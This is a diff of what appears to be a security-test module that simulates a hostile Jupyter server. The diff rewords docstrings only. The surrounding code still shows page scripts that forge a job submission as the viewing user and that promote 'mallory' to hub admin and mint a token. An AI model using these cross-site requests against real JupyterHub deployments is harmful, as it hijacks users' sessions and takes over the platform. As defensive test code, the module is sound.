@@ -1,5 +1,6 @@
-"""Mallory's Jupyter server: a real session whose configuration adds a handler that answers anybody, and the scripts of
-its pages. Each script does what an attacker would: it tries to read, use or leave something where it must not."""
+"""Mallory's Jupyter server: a real session whose configuration adds a handler without authentication, and the scripts
+of its pages. Each script does what an attacker would: it tries to read, use or leave something where it must not.
+"""
 
 from __future__ import annotations
 
@@ -102,7 +103,7 @@ async ([url, method, headers, body]) => {
 }
 """
 
-# As a form, in a window of its own: a navigation, for which browsers ask nobody.
+# As a form, in a window of its own: a navigation, which browsers allow without a check.
 SUBMIT_FORM = """
 ([url, fields]) => {
   const form = document.createElement("form");
@@ -165,7 +166,7 @@ class MaliciousServer:
         page.evaluate(SEND, [f"{self.hub}{path}", method, headers, body])
 
     def submit_job(self, page: Page, token: str) -> None:
-        """Submit a job as whoever looks at her page, with this token of the portal's forms."""
+        """Submit a job as the user who views her page, with this token of the portal's forms."""
         fields = {"csrf": token, "kind": "job", "command": "touch stolen", "name": "stolen"}
         body = "&".join(f"{name}={value.replace(' ', '+')}" for name, value in fields.items())
         form = {"Content-Type": "application/x-www-form-urlencoded"}
@@ -176,7 +177,7 @@ class MaliciousServer:
         opened.value.close()
 
     def take_over_platform(self, page: Page, token: str) -> None:
-        """Have whoever looks at her page make her an admin and mint a token, with this token of the hub's pages."""
+        """Let the user who views her page make her an admin and create a token, with this token of the hub's pages."""
         headers = {"X-XSRFToken": token, "Content-Type": "application/json"}
         self.send(page, "PATCH", "/hub/api/users/mallory", headers, '{"admin": true}')
         self.send(page, "POST", "/hub/api/users/admin/tokens", headers, '{"note": "stolen"}')
